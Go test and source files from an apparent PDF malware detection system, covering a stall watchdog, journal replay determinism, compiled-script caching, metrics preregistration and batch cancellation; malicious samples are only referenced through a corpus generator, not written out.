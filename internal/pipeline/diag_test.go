package pipeline

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"pdfshield/internal/corpus"
	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
)

// TestWatchdogFlagsWedgedOpen is the acceptance test for the stall
// watchdog: a document deliberately wedged inside the open phase (via
// the openHook test seam) must be flagged with a captured goroutine
// dump and its journal context, while concurrently processed documents
// keep receiving correct verdicts; releasing the wedge lets the
// document finish normally.
func TestWatchdogFlagsWedgedOpen(t *testing.T) {
	var jbuf bytes.Buffer
	jw := journal.NewWriter(&jbuf, journal.Options{Session: "wedge-test"})
	sys, err := NewSystem(Options{
		Seed:    99,
		Obs:     obs.NewRegistry(),
		Journal: jw,
		Diag: obs.DiagConfig{
			Watchdog: obs.WatchdogConfig{
				Deadline: 150 * time.Millisecond,
				Interval: 25 * time.Millisecond,
			},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sys.Close() })

	const wedgedID = "wedged.pdf"
	release := make(chan struct{})
	wedged := make(chan struct{})
	openHook = func(docID string) {
		if docID == wedgedID {
			close(wedged)
			<-release
		}
	}
	defer func() { openHook = nil }()

	g := corpus.NewGenerator(771)
	done := make(chan error, 1)
	go func() {
		_, err := sys.ProcessDocument(wedgedID, g.BenignFormJS().Raw)
		done <- err
	}()
	<-wedged // the doc is now inside the open phase, holding the seam

	// Concurrent documents must be unaffected by the wedge: a malicious
	// sample still convicts, a benign one stays clean.
	mal, ok := g.MaliciousFamily("mal-printf")
	if !ok {
		t.Fatal("family missing")
	}
	v, err := sys.ProcessDocument(mal.ID, mal.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Error("malicious sample not detected while another doc is wedged")
	}
	benign := g.BenignFormJS()
	v, err = sys.ProcessDocument("benign-during-wedge.pdf", benign.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if v.Malicious {
		t.Error("benign doc convicted while another doc is wedged")
	}

	// The watchdog's background loop must flag the wedged doc.
	deadline := time.Now().Add(10 * time.Second)
	var rep obs.StallReport
	for {
		if time.Now().After(deadline) {
			t.Fatalf("watchdog never flagged the wedged doc; reports: %+v",
				sys.Diagnostics().Watchdog.Reports())
		}
		found := false
		for _, r := range sys.Diagnostics().Watchdog.Reports() {
			if r.DocID == wedgedID {
				rep, found = r, true
			}
		}
		if found {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if rep.Phase != obs.PhaseOpen {
		t.Errorf("stall phase = %q, want open", rep.Phase)
	}
	if !strings.Contains(rep.Goroutines, "goroutine") {
		t.Error("stall report has no goroutine dump")
	}
	// The journal context fetcher is wired to the writer's recent ring:
	// the report must carry the wedged doc's doc-open event.
	events, ok := rep.Journal.([]journal.Event)
	if !ok || len(events) == 0 {
		t.Fatalf("stall report journal context = %#v, want the doc's events", rep.Journal)
	}
	if events[len(events)-1].T != journal.TypeDocOpen {
		t.Errorf("journal context missing the doc-open event: %+v", events)
	}

	// Releasing the wedge lets the document finish with a normal verdict.
	close(release)
	if err := <-done; err != nil {
		t.Fatalf("wedged doc errored after release: %v", err)
	}
	recs := sys.Diagnostics().Flight.Find(wedgedID)
	if len(recs) != 1 {
		t.Fatalf("flight recorder holds %d records for the wedged doc, want 1", len(recs))
	}
	hasOpen := false
	for _, sp := range recs[0].Trace.Spans {
		if sp.Phase == obs.PhaseOpen {
			hasOpen = true
		}
	}
	if !hasOpen {
		t.Errorf("wedged doc's trace lost its open span: %+v", recs[0].Trace.Spans)
	}

	st := sys.Stats()
	if st.Watchdog == nil || st.Watchdog.Stalls == 0 {
		t.Errorf("Stats.Watchdog = %+v, want the stall counted", st.Watchdog)
	}
}

// TestDiagnosticsThroughPipeline: every processed document feeds the SLO
// tracker and flight recorder, errored submissions are tail-retained
// with their error text, and System.Stats carries the diagnostics
// sections.
func TestDiagnosticsThroughPipeline(t *testing.T) {
	sys, err := NewSystem(Options{Seed: 99, Obs: obs.NewRegistry()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sys.Close() })

	g := corpus.NewGenerator(772)
	if _, err := sys.ProcessDocument("ok.pdf", g.BenignFormJS().Raw); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.ProcessDocument("garbage.pdf", []byte("not a pdf at all")); err == nil {
		t.Fatal("garbage document processed without error")
	}

	d := sys.Diagnostics()
	if d == nil {
		t.Fatal("diagnostics disabled by default")
	}
	recs := d.Flight.Find("garbage.pdf")
	if len(recs) != 1 {
		t.Fatalf("errored doc not in flight recorder: %d records", len(recs))
	}
	retained := strings.Join(recs[0].Retained, ",")
	if !strings.Contains(retained, obs.RetainErrored) {
		t.Errorf("errored doc retained as %q, want errored", retained)
	}
	if recs[0].Trace.Error == "" || recs[0].Trace.Outcome != obs.OutcomeErrored {
		t.Errorf("errored trace = %+v, want error text and errored outcome", recs[0].Trace)
	}

	st := sys.Stats()
	if st.Flight == nil || st.Flight.Recorded != 2 {
		t.Errorf("Stats.Flight = %+v, want 2 recorded", st.Flight)
	}
	if len(st.SLO) == 0 {
		t.Fatal("Stats.SLO empty")
	}
	totalObserved := uint64(0)
	for _, s := range st.SLO {
		totalObserved += s.Observed
	}
	if totalObserved != 2 {
		t.Errorf("SLO observations = %d, want 2 (one per submission)", totalObserved)
	}
	if st.Watchdog == nil || st.Watchdog.DeadlineSeconds <= 0 {
		t.Errorf("Stats.Watchdog = %+v", st.Watchdog)
	}

	// Disable switch: no diagnostics, nil-safe stats.
	off, err := NewSystem(Options{Seed: 99, Obs: obs.NewRegistry(), Diag: obs.DiagConfig{Disable: true}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = off.Close() })
	if off.Diagnostics() != nil {
		t.Error("Disable did not turn diagnostics off")
	}
	if _, err := off.ProcessDocument("ok2.pdf", g.BenignFormJS().Raw); err != nil {
		t.Fatal(err)
	}
	if st := off.Stats(); st.Flight != nil || st.SLO != nil || st.Watchdog != nil {
		t.Errorf("disabled diagnostics still in Stats: %+v", st)
	}
}

// TestDeepScanHistogramWideBuckets: the deep-scan open histogram must be
// registered with the widened bounds, not the default 10s-top latency
// buckets, whichever code path touches it first.
func TestDeepScanHistogramWideBuckets(t *testing.T) {
	reg := obs.NewRegistry()
	sys, err := NewSystem(Options{Seed: 99, Obs: reg})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sys.Close() })

	// Preregistration pinned the bounds at construction; a synthetic 78s
	// observation must land in a finite bucket.
	reg.Histogram(obs.MetricDeepScanSeconds, nil).ObserveExemplar(78, "deep-78s")
	snap := reg.Snapshot().Histograms[obs.MetricDeepScanSeconds]
	var maxBound float64
	finite := false
	for _, b := range snap.Buckets {
		if b.UpperBound > maxBound {
			maxBound = b.UpperBound
		}
		if b.UpperBound < 300 && b.UpperBound >= 78 && b.Count == 1 {
			finite = true
		}
	}
	if maxBound <= 10 {
		t.Fatalf("deep-scan histogram registered with narrow bounds (top %v)", maxBound)
	}
	if !finite {
		t.Errorf("78s deep scan not finite-bucketed: %+v", snap.Buckets)
	}
}
