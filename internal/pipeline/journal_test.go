package pipeline

import (
	"bytes"
	"errors"
	"fmt"
	"testing"

	"pdfshield/internal/corpus"
	"pdfshield/internal/detect"
	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
	"pdfshield/internal/winos"
)

// journalCorpus is the mixed live batch the replay tests record: working
// exploits (alerts with confinement), benign-with-JS documents (full
// instrumented runs, no alert) and a scriptless control.
func journalCorpus() []BatchDoc {
	g := corpus.NewGenerator(271)
	var docs []BatchDoc
	for _, s := range g.MaliciousBatch(6) {
		docs = append(docs, BatchDoc{ID: s.ID, Raw: s.Raw})
	}
	for _, s := range g.BenignWithJS(6) {
		docs = append(docs, BatchDoc{ID: s.ID, Raw: s.Raw})
	}
	s := g.BenignText(32 << 10)
	docs = append(docs, BatchDoc{ID: s.ID, Raw: s.Raw})
	return docs
}

// TestReplayDeterminism is the tentpole invariant: a live batch recorded to
// a journal, re-fed serially through a fresh detector, reproduces the
// identical canonical event stream — every feature trigger, malscore and
// alert, in the same order — plus the same alert list.
func TestReplayDeterminism(t *testing.T) {
	var recBuf bytes.Buffer
	rec := journal.NewWriter(&recBuf, journal.Options{Session: "live"})
	sys, err := NewSystem(Options{Seed: 271, Journal: rec, Obs: obs.NewRegistry()})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sys.Close() }()

	docs := journalCorpus()
	res := sys.ProcessBatchContext(t.Context(), docs, BatchOptions{Workers: 4})
	if n := res.Failed(); n != 0 {
		t.Fatalf("%d documents failed: %v", n, res.Errors)
	}
	liveAlerts := sys.Detector.Alerts()
	if len(liveAlerts) == 0 {
		t.Fatal("live batch raised no alerts; replay test needs alert traffic")
	}
	if err := rec.Flush(); err != nil {
		t.Fatal(err)
	}
	recorded, err := journal.Read(&recBuf)
	if err != nil {
		t.Fatal(err)
	}

	// Fresh detector over the same registry, no listeners: the journal is
	// the only input source.
	var repBuf bytes.Buffer
	rep := journal.NewWriter(&repBuf, journal.Options{Session: "replay"})
	det2, err := detect.New(detect.Config{
		Registry: sys.Registry,
		OS:       winos.NewOS(),
		Obs:      obs.NewRegistry(),
		Journal:  rep,
	})
	if err != nil {
		t.Fatal(err)
	}
	stats := journal.Replay(recorded, det2)
	if stats.Notifies == 0 || stats.Hooks == 0 {
		t.Fatalf("replay fed nothing: %+v", stats)
	}
	if err := rep.Flush(); err != nil {
		t.Fatal(err)
	}
	replayed, err := journal.Read(&repBuf)
	if err != nil {
		t.Fatal(err)
	}

	if diffs := journal.Diff(recorded, replayed); len(diffs) != 0 {
		for _, d := range diffs {
			t.Error(d)
		}
		t.Fatalf("replay diverged in %d place(s)", len(diffs))
	}

	// The replayed detector's alert list matches the live one in order,
	// identity, score and feature vector.
	repAlerts := det2.Alerts()
	if len(repAlerts) != len(liveAlerts) {
		t.Fatalf("alerts: live %d, replay %d", len(liveAlerts), len(repAlerts))
	}
	for i := range liveAlerts {
		l, r := liveAlerts[i], repAlerts[i]
		if l.DocID != r.DocID || l.InstrKey != r.InstrKey || l.Malscore != r.Malscore ||
			l.Reason != r.Reason || l.Cause != r.Cause || l.Features != r.Features {
			t.Errorf("alert %d: live %+v != replay %+v", i, l, r)
		}
	}
}

// TestReplayDeterminismAcrossWidths re-records the same corpus at worker
// width 1 and 4: each document's behavioral sub-stream — feature triggers
// with their operation strings, alerts with score and feature set — must
// agree even though the global interleaving differs. Identity columns
// (instrumentation keys, pids, memory baselines) are run-local: keys come
// from a shared RNG drawn in dispatch order, so they are excluded here;
// within ONE recording they are exact (see TestReplayDeterminism).
func TestReplayDeterminismAcrossWidths(t *testing.T) {
	byDoc := func(events []journal.Event) map[string][]string {
		out := make(map[string][]string)
		for _, e := range events {
			if e.DocID == "" {
				continue
			}
			switch e.T {
			case journal.TypeFeature:
				out[e.DocID] = append(out[e.DocID],
					fmt.Sprintf("feature|%s|%s", e.Feature.Name, e.Feature.Op))
			case journal.TypeAlert:
				out[e.DocID] = append(out[e.DocID],
					fmt.Sprintf("alert|%d|%s|%v", e.Alert.Malscore, e.Alert.Reason, e.Alert.Features))
			case journal.TypeVerdict:
				out[e.DocID] = append(out[e.DocID],
					fmt.Sprintf("verdict|%v|%v|%v|%v", e.Verdict.Malicious, e.Verdict.NoJavaScript, e.Verdict.Crashed, e.Verdict.Features))
			}
		}
		return out
	}
	run := func(workers int) map[string][]string {
		var buf bytes.Buffer
		w := journal.NewWriter(&buf, journal.Options{})
		sys, err := NewSystem(Options{Seed: 271, Journal: w, Obs: obs.NewRegistry()})
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = sys.Close() }()
		res := sys.ProcessBatchContext(t.Context(), journalCorpus(), BatchOptions{Workers: workers})
		if n := res.Failed(); n != 0 {
			t.Fatalf("workers=%d: %d failures", workers, n)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		events, err := journal.Read(&buf)
		if err != nil {
			t.Fatal(err)
		}
		return byDoc(events)
	}

	serial, parallel := run(1), run(4)
	if len(serial) != len(parallel) {
		t.Fatalf("doc coverage differs: serial %d, parallel %d", len(serial), len(parallel))
	}
	for doc, want := range serial {
		got, ok := parallel[doc]
		if !ok {
			t.Errorf("doc %s missing from parallel journal", doc)
			continue
		}
		if len(got) != len(want) {
			t.Errorf("doc %s: %d events serial, %d parallel\n  serial:   %v\n  parallel: %v", doc, len(want), len(got), want, got)
			continue
		}
		for i := range want {
			if want[i] != got[i] {
				t.Errorf("doc %s event %d: serial %q != parallel %q", doc, i, want[i], got[i])
			}
		}
	}
}

// blockedSink fails every write, like journaling onto a full disk.
type blockedSink struct{}

func (blockedSink) Write([]byte) (int, error) { return 0, errors.New("no space left on device") }

// TestJournalFailOpen proves the fail-open contract end to end: a journal
// whose sink rejects every byte changes no verdict — the batch completes
// with the same outcomes as an unjournaled run, and the loss is visible on
// the writer and the metrics registry.
func TestJournalFailOpen(t *testing.T) {
	docs := journalCorpus()

	run := func(w *journal.Writer, reg *obs.Registry) []string {
		sys, err := NewSystem(Options{Seed: 271, Journal: w, Obs: reg})
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = sys.Close() }()
		res := sys.ProcessBatchContext(t.Context(), docs, BatchOptions{Workers: 2})
		out := make([]string, len(docs))
		for i := range docs {
			if res.Errors[i] != nil {
				out[i] = "error: " + res.Errors[i].Error()
				continue
			}
			v := res.Verdicts[i]
			out[i] = fmt.Sprintf("doc=%s malicious=%v nojs=%v crashed=%v features=%v",
				v.DocID, v.Malicious, v.NoJavaScript, v.Crashed, v.FeatureVector)
		}
		return out
	}

	clean := run(nil, obs.NewRegistry())

	reg := obs.NewRegistry()
	// FlushEach pushes every event into the failing sink immediately — the
	// hardest case for fail-open.
	w := journal.NewWriter(blockedSink{}, journal.Options{Obs: reg, FlushEach: true})
	broken := run(w, reg)

	for i := range clean {
		if clean[i] != broken[i] {
			t.Errorf("doc %d: journal failure changed the verdict:\n  clean:  %s\n  broken: %s", i, clean[i], broken[i])
		}
	}
	if w.Err() == nil {
		t.Error("writer hid the sink failure")
	}
	if w.Dropped() == 0 {
		t.Error("no events recorded as dropped")
	}
	if reg.Snapshot().Counters[obs.MetricJournalErrors] == 0 {
		t.Error("journal error counter not incremented")
	}
}
