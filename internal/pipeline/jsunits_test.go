package pipeline

import (
	"testing"

	"pdfshield/internal/corpus"
	"pdfshield/internal/js"
	"pdfshield/internal/obs"
	"pdfshield/internal/reader"
)

// TestRecycledSessionKeepsCompiledUnits pins the compiled-unit retention
// contract: instrumentation precompiles the monitoring code, the first open
// runs warm, and a recycled session re-opens the same document with zero
// new compiles — Recycle discards reader state, never compiled units.
func TestRecycledSessionKeepsCompiledUnits(t *testing.T) {
	units := js.NewUnitCache(8 << 20)
	reg := obs.NewRegistry()
	sys, err := NewSystem(Options{ViewerVersion: 9.0, Seed: 424, Obs: reg, JSUnits: units})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sys.Close() }()

	g := corpus.NewGenerator(616)
	s := g.BenignWithJS(1)[0]
	res, err := sys.Instrumenter.InstrumentBytes(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	warmed := units.Stats()
	if warmed.Entries == 0 || warmed.Misses == 0 {
		t.Fatalf("instrument-time precompilation left the unit cache empty: %+v", warmed)
	}

	sess, err := sys.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer sess.Close()

	if _, err := sess.Open(res, reader.OpenOptions{}); err != nil {
		t.Fatalf("first open: %v", err)
	}
	st1 := units.Stats()
	if st1.Hits == 0 {
		t.Fatalf("first open compiled from scratch instead of hitting precompiled units: %+v", st1)
	}

	sess.Recycle()
	if _, err := sess.Open(res, reader.OpenOptions{}); err != nil {
		t.Fatalf("open after recycle: %v", err)
	}
	st2 := units.Stats()
	if st2.Misses != st1.Misses {
		t.Fatalf("recycled session re-compiled scripts: misses %d -> %d", st1.Misses, st2.Misses)
	}
	if st2.Hits <= st1.Hits {
		t.Fatalf("recycled open did not hit the unit cache: hits %d -> %d", st1.Hits, st2.Hits)
	}

	// The same counters must surface through Stats() and the obs registry.
	if got := sys.Stats().JSUnits; got != st2 {
		t.Fatalf("Stats().JSUnits = %+v, want %+v", got, st2)
	}
	snap := reg.Snapshot()
	if uint64(snap.Counters[obs.MetricJSUnitsHits]) != st2.Hits {
		t.Errorf("%s = %d, want %d", obs.MetricJSUnitsHits, snap.Counters[obs.MetricJSUnitsHits], st2.Hits)
	}
	if uint64(snap.Counters[obs.MetricJSUnitsMisses]) != st2.Misses {
		t.Errorf("%s = %d, want %d", obs.MetricJSUnitsMisses, snap.Counters[obs.MetricJSUnitsMisses], st2.Misses)
	}
	if hs, ok := snap.Histograms[obs.MetricJSCompileSeconds]; !ok || hs.Count == 0 {
		t.Errorf("%s histogram empty (ok=%v)", obs.MetricJSCompileSeconds, ok)
	}
}

// TestConcurrentBatchSharesUnitCache drives JS-bearing documents through
// the batch engine with a wide worker pool sharing one unit cache: workers
// warm it during instrumentation and hit it during opens concurrently.
// Under `make race` this is the data-race gate for UnitCache.Load and VM
// dispatch of shared compiled units.
func TestConcurrentBatchSharesUnitCache(t *testing.T) {
	units := js.NewUnitCache(32 << 20)
	sys, err := NewSystem(Options{ViewerVersion: 9.0, Seed: 99, Obs: obs.NewRegistry(), JSUnits: units})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sys.Close() }()

	g := corpus.NewGenerator(31337)
	samples := g.BenignWithJS(12)
	for i := 0; i < 8; i++ {
		samples = append(samples, g.BenignInteractiveJS())
	}
	docs := make([]BatchDoc, len(samples))
	for i, s := range samples {
		docs[i] = BatchDoc{ID: s.ID, Raw: s.Raw}
	}

	res := sys.ProcessBatch(docs, BatchOptions{Workers: 8})
	if failed := res.Failed(); failed != 0 {
		t.Fatalf("%d documents failed", failed)
	}
	st := units.Stats()
	if st.Misses == 0 || st.Hits == 0 {
		t.Fatalf("shared unit cache unused across the batch: %+v", st)
	}
}
