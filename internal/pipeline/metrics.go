package pipeline

import (
	"pdfshield/internal/detect"
	"pdfshield/internal/obs"
	"pdfshield/internal/triage"
)

// preregisterMetrics creates every series the pipeline stack can emit,
// at its zero value, when the System is built. Without this a series
// only exists after its first event, so a dashboard (or the
// `make lint-metrics` drift check) cannot tell "metric renamed away"
// from "nothing happened yet". Histograms are preregistered with their
// canonical bucket bounds — the first registration wins the bounds, so
// this also pins deepscan_seconds to the widened DeepScanBuckets.
//
// Registering is idempotent, so several Systems sharing one registry
// (the obs.Default case) preregister harmlessly.
func preregisterMetrics(reg *obs.Registry) {
	for _, name := range []string{
		// Pipeline outcomes.
		obs.MetricDocsTotal, obs.MetricDocsMalicious, obs.MetricDocsNoJS,
		obs.MetricDocsCrashed, obs.MetricDocsErrored, obs.MetricPanics,
		// Front-end (internal/instrument).
		obs.MetricDocsInstrumented, obs.MetricScripts, obs.MetricStagedRewrites,
		// Runtime detector (internal/detect) and its hook listener.
		obs.MetricAlerts, obs.MetricFakeMessages, obs.MetricHookAcceptErrors,
		// Deep-scan accounting.
		obs.MetricDeepScanPaths, obs.MetricDeepScanBudget,
	} {
		reg.CounterAdd(name, 0)
	}
	for _, route := range []triage.Route{triage.RouteBenign, triage.RouteMalicious, triage.RouteUncertain} {
		reg.CounterAdd(obs.Series(obs.MetricTriageRoutes, "route", string(route)), 0)
	}
	for _, feature := range detect.FeatureNames {
		reg.CounterAdd(obs.FeatureSeries(feature), 0)
	}
	for _, name := range []string{
		obs.MetricBatchQueueDepth, obs.MetricBatchWorkers, obs.MetricSessionsActive,
	} {
		reg.GaugeAdd(name, 0)
	}
	for _, phase := range []string{
		obs.PhaseParse, obs.PhaseAnalyze, obs.PhaseInstrument,
		obs.PhaseTriage, obs.PhaseOpen, obs.PhaseDetect, obs.PhaseFrontEnd,
	} {
		reg.Histogram(obs.PhaseSeries(phase), obs.LatencyBuckets)
	}
	reg.Histogram(obs.MetricDocSeconds, obs.LatencyBuckets)
	reg.Histogram(obs.MetricTriageSeconds, obs.LatencyBuckets)
	reg.Histogram(obs.MetricJSCompileSeconds, obs.LatencyBuckets)
	reg.Histogram(obs.MetricDeepScanSeconds, obs.DeepScanBuckets)
}
