package pipeline

import (
	"context"
	"encoding/json"
	"errors"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"pdfshield/internal/cache"
	"pdfshield/internal/obs"
)

// newObservedSystem builds a System reporting into a private registry, so
// assertions on exact counts are isolated from other tests (everything
// else in the package lands in obs.Default).
func newObservedSystem(t *testing.T, withCache bool) (*System, *obs.Registry) {
	t.Helper()
	reg := obs.NewRegistry()
	opts := Options{ViewerVersion: 8.0, Seed: 99, Obs: reg}
	if withCache {
		opts.Cache = &cache.Config{}
	}
	sys, err := NewSystem(opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sys.Close() })
	return sys, reg
}

// TestProcessDocumentContextPreCancelled: an already-dead context stops
// the pipeline before any phase runs and surfaces as the document's error
// (counted as errored, not as a verdict).
func TestProcessDocumentContextPreCancelled(t *testing.T) {
	sys, reg := newObservedSystem(t, false)
	docs := mixedCorpus(t, 1)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	v, err := sys.ProcessDocumentContext(ctx, docs[0].ID, docs[0].Raw)
	if v != nil || !errors.Is(err, context.Canceled) {
		t.Fatalf("got (%v, %v), want (nil, context.Canceled)", v, err)
	}
	snap := reg.Snapshot()
	if snap.Counters[obs.MetricDocsTotal] != 1 || snap.Counters[obs.MetricDocsErrored] != 1 {
		t.Fatalf("counters = total %d / errored %d, want 1/1",
			snap.Counters[obs.MetricDocsTotal], snap.Counters[obs.MetricDocsErrored])
	}
}

// TestBatchCancellationPrefixIntact cancels a batch mid-run and checks the
// contract: documents finished before the cancellation keep their
// verdicts, every remaining slot carries ctx.Err(), no slot has both, and
// the worker pool shuts down without leaking goroutines.
func TestBatchCancellationPrefixIntact(t *testing.T) {
	sys, reg := newObservedSystem(t, false)
	all := mixedCorpus(t, 21)
	warmDocs, docs := all[18:], all[:18]

	// Warm the system first so the goroutine baseline includes its
	// steady-state infrastructure (accept loops, HTTP keep-alive
	// connections) rather than attributing those to the cancelled batch.
	// Distinct documents: the registry's duplicate rule forbids
	// re-instrumenting bytes the warm-up already claimed.
	warm := sys.ProcessBatch(warmDocs, BatchOptions{Workers: 2})
	if n := warm.Failed(); n != 0 {
		t.Fatalf("warm-up failed %d docs: %v", n, warm.Errors)
	}
	before := runtime.NumGoroutine()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var seen atomic.Int32
	analysisHook = func(string) {
		if seen.Add(1) == 5 {
			cancel()
		}
	}
	defer func() { analysisHook = nil }()

	res := sys.ProcessBatchContext(ctx, docs, BatchOptions{Workers: 2})

	verdicts, cancelled := 0, 0
	for i := range docs {
		v, err := res.Verdicts[i], res.Errors[i]
		if (v == nil) == (err == nil) {
			t.Fatalf("slot %d: verdict=%v err=%v, want exactly one", i, v, err)
		}
		switch {
		case v != nil:
			verdicts++
			if v.DocID != docs[i].ID {
				t.Errorf("slot %d verdict names %s", i, v.DocID)
			}
		case errors.Is(err, context.Canceled):
			cancelled++
		default:
			t.Errorf("slot %d: unexpected error %v", i, err)
		}
	}
	if verdicts == 0 {
		t.Error("no document finished before the cancellation")
	}
	if cancelled == 0 {
		t.Error("no slot reports the cancellation")
	}
	if got := res.Cancelled(); got != cancelled {
		t.Errorf("Cancelled() = %d, counted %d", got, cancelled)
	}

	// The queue-depth and worker gauges must return to zero, and the pool's
	// goroutines must be gone (give the scheduler a moment under -race).
	snap := reg.Snapshot()
	if d := snap.Gauges[obs.MetricBatchQueueDepth]; d != 0 {
		t.Errorf("queue depth after batch = %g, want 0", d)
	}
	if w := snap.Gauges[obs.MetricBatchWorkers]; w != 0 {
		t.Errorf("batch workers after batch = %g, want 0", w)
	}
	for deadline := time.Now().Add(5 * time.Second); runtime.NumGoroutine() > before; {
		if time.Now().After(deadline) {
			t.Fatalf("goroutines leaked: %d before, %d after", before, runtime.NumGoroutine())
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestStatsAndTracesConsistentWithBatch is the acceptance check: after a
// batch, System.Stats() and each Verdict.Trace round-trip through JSON
// with values consistent with the BatchResult's own counts.
func TestStatsAndTracesConsistentWithBatch(t *testing.T) {
	sys, reg := newObservedSystem(t, true)
	docs := mixedCorpus(t, 15)
	res := sys.ProcessBatch(docs, BatchOptions{Workers: 3})
	if n := res.Failed(); n != 0 {
		t.Fatalf("%d failures: %v", n, res.Errors)
	}

	var malicious, nojs uint64
	for i, v := range res.Verdicts {
		if v.Malicious {
			malicious++
		}
		if v.NoJavaScript {
			nojs++
		}
		tr := v.Trace
		if tr == nil {
			t.Fatalf("verdict %d (%s) has no trace", i, v.DocID)
		}
		if tr.DocID != docs[i].ID {
			t.Errorf("trace %d names %s, want %s", i, tr.DocID, docs[i].ID)
		}
		wantOutcome := obs.OutcomeBenign
		switch {
		case v.Malicious:
			wantOutcome = obs.OutcomeMalicious
		case v.NoJavaScript:
			wantOutcome = obs.OutcomeNoJavaScript
		case v.Crashed:
			wantOutcome = obs.OutcomeCrashed
		}
		if tr.Outcome != wantOutcome {
			t.Errorf("trace %d outcome %q, verdict says %q", i, tr.Outcome, wantOutcome)
		}
		if tr.Cache == "" || len(tr.Spans) == 0 {
			t.Errorf("trace %d incomplete: cache=%q spans=%d", i, tr.Cache, len(tr.Spans))
		}
		if !v.NoJavaScript {
			last := tr.Spans[len(tr.Spans)-1]
			if last.Phase != obs.PhaseDetect {
				t.Errorf("trace %d last span %q, want detect", i, last.Phase)
			}
		}
		data, err := json.Marshal(tr)
		if err != nil {
			t.Fatalf("trace %d marshal: %v", i, err)
		}
		var back obs.Trace
		if err := json.Unmarshal(data, &back); err != nil {
			t.Fatalf("trace %d unmarshal: %v", i, err)
		}
		if back.Outcome != tr.Outcome || len(back.Spans) != len(tr.Spans) {
			t.Errorf("trace %d JSON round-trip mismatch", i)
		}
	}

	st := sys.Stats()
	if st.Docs.Total != uint64(len(docs)) {
		t.Errorf("stats total = %d, want %d", st.Docs.Total, len(docs))
	}
	if st.Docs.Malicious != malicious || st.Docs.NoJavaScript != nojs {
		t.Errorf("stats malicious/nojs = %d/%d, batch counted %d/%d",
			st.Docs.Malicious, st.Docs.NoJavaScript, malicious, nojs)
	}
	if want := uint64(len(docs)) - malicious - nojs - st.Docs.Crashed; st.Docs.Benign != want {
		t.Errorf("stats benign = %d, want %d", st.Docs.Benign, want)
	}
	if st.Cache == nil || st.Cache.Misses != res.CacheStats.Misses {
		t.Errorf("stats cache = %+v, batch saw %+v", st.Cache, res.CacheStats)
	}
	for _, phase := range []string{
		obs.PhaseParse, obs.PhaseAnalyze, obs.PhaseInstrument,
		obs.PhaseOpen, obs.PhaseDetect, "total",
	} {
		ph, ok := st.Phases[phase]
		if !ok || ph.Count == 0 {
			t.Errorf("phase %q missing from stats (%+v)", phase, st.Phases)
		}
	}
	if tot := st.Phases["total"]; tot.Count != uint64(len(docs)) {
		t.Errorf("total phase count = %d, want %d", tot.Count, len(docs))
	}
	if len(st.Detect.FeatureTriggers) == 0 || st.Detect.Alerts == 0 {
		t.Errorf("detector stats empty: %+v", st.Detect)
	}

	data, err := json.Marshal(st)
	if err != nil {
		t.Fatal(err)
	}
	var back Stats
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if back.Docs != st.Docs || back.Detect.Alerts != st.Detect.Alerts ||
		len(back.Phases) != len(st.Phases) {
		t.Errorf("stats JSON round-trip mismatch:\n got %+v\nwant %+v", back, st)
	}

	// The same registry must expose every phase in Prometheus text form
	// (what -metrics-addr serves).
	var sb strings.Builder
	if err := reg.WritePrometheus(&sb); err != nil {
		t.Fatal(err)
	}
	text := sb.String()
	for _, phase := range []string{
		obs.PhaseParse, obs.PhaseAnalyze, obs.PhaseInstrument,
		obs.PhaseOpen, obs.PhaseDetect,
	} {
		series := obs.PhaseSeries(phase)
		base, labels := obs.SplitSeries(series)
		if !strings.Contains(text, base+"_count{"+labels+"}") {
			t.Errorf("prometheus output missing phase %q", phase)
		}
	}
	if !strings.Contains(text, "# TYPE pdfshield_doc_seconds histogram") {
		t.Error("prometheus output missing the end-to-end latency histogram")
	}
}

// TestSessionsActiveGauge: sessions move the gauge symmetrically and a
// double Close does not skew it.
func TestSessionsActiveGauge(t *testing.T) {
	sys, reg := newObservedSystem(t, false)
	sess, err := sys.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if g := reg.Snapshot().Gauges[obs.MetricSessionsActive]; g != 1 {
		t.Fatalf("gauge after open = %g, want 1", g)
	}
	sess.Close()
	sess.Close() // idempotent
	if g := reg.Snapshot().Gauges[obs.MetricSessionsActive]; g != 0 {
		t.Fatalf("gauge after close = %g, want 0", g)
	}
}
