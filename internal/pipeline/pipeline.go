// Package pipeline wires the full system together: the front-end
// instrumenter, the runtime detector (SOAP + hook servers), and simulated
// reader processes with the hook DLL dialled into the detector. It is the
// engine behind the public API, the example programs and the evaluation
// harness.
package pipeline

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"time"

	"pdfshield/internal/cache"
	"pdfshield/internal/detect"
	"pdfshield/internal/hook"
	"pdfshield/internal/instrument"
	"pdfshield/internal/journal"
	"pdfshield/internal/js"
	"pdfshield/internal/obs"
	"pdfshield/internal/reader"
	"pdfshield/internal/triage"
	"pdfshield/internal/winos"
)

// Options configures a System.
type Options struct {
	// ViewerVersion for reader processes (default 9.0).
	ViewerVersion float64
	// Seed makes instrumentation randomization reproducible (0 = time).
	Seed int64
	// DetectorID fixes the install identity (default: random).
	DetectorID string
	// DownloadsPath persists the JS-context executable list.
